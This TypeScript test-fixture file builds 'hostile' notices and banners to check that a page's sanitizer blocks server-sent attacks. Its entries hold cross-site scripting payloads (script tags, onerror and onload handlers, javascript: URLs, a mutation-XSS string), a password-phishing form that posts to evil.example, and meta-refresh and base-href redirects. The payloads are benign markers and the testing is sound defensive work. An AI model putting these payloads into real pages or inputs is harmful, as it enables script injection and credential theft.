import type { Instant } from '#src/domain/time/instant.ts'
import type { Row } from '../rows.ts'

/**
 * Notices, banners and names written to do harm. Only the `hostile` world has them: they show that nothing a server sends can run,
 * navigate or break the page.
 */
const attacks: readonly (readonly [title: string, content: string])[] = [
  ['<script>window.hacked=1</script>脚本标题', '<p>开头</p><script>window.hacked = "script"</script><p>结尾仍可读</p>'],
  [
    '图片事件',
    '<p>看图</p><img src="x" onerror="window.hacked=\'onerror\'"><img src="javascript:window.hacked=1"><p>图后文字</p>',
  ],
  [
    '危险链接',
    '<p><a href="javascript:window.hacked=\'link\'">点我领取</a> <a href="data:text/html,<script>1</script>">再点</a></p>',
  ],
  [
    '外站链接',
    '<p><a href="https://evil.example/login" target="_top">官方登录</a> <a href="//evil.example/">省略协议</a></p>',
  ],
  [
    '嵌入页面',
    '<iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x"><p>嵌入之后</p>',
  ],
  [
    '表单钓鱼',
    '<form action="https://evil.example"><input name="password" placeholder="请输入密码"><button>登录</button></form><p>表单之后</p>',
  ],
  [
    '覆盖全屏',
    '<div style="position:fixed;inset:0;background:url(javascript:1);z-index:99999">假页面</div><style>*{display:none}</style><p>样式之后</p>',
  ],
  [
    '矢量脚本',
    '<svg onload="window.hacked=\'svg\'"><script>window.hacked=1</script><a xlink:href="javascript:1"><text>字</text></a></svg><p>矢量之后</p>',
  ],
  [
    '突变解析',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;"></table></math><p>公式之后</p>',
  ],
  [
    '元刷新',
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><p>刷新之后</p>',
  ],
  ['没有闭合', '<p>一段<b>没有<i>闭合的<a href="/x">文字<table><tr><td>表格里的<div>内容'],
]

export const hostileNotices = (now: Instant): Row<'notices'>[] =>
  attacks.map(([title, content], index) => ({
    id: String(6601 + index),
    typeId: '41',
    title,
    summary: '<b onclick="window.hacked=1">摘要里的标签</b>',
    cover: index % 2 === 0 ? 'javascript:window.hacked=1' : '',
    author: '"><img src=x onerror=window.hacked=1>',
    content,
    pinned: false,
    publishedAt: now - (index + 1) * 60_000,
  }))

export const hostileBanners = (): Row<'banners'>[] => [
  {
    id: '6701',
    place: 'top',
    title: '脚本链接',
    subtitle: '',
    image: '/art/banner/ink-landscape-1.svg',
    link: 'javascript:window.hacked=1',
    sort: 1,
  },
  {
    id: '6702',
    place: 'top',
    title: '外站链接',
    subtitle: '',
    image: '/art/banner/koi-1.svg',
    link: 'https://evil.example/',
    sort: 2,
  },
  {
    id: '6703',
    place: 'top',
    title: '坏图',
    subtitle: '',
    image: 'data:text/html,<script>1</script>',
    link: '',
    sort: 3,
  },
]
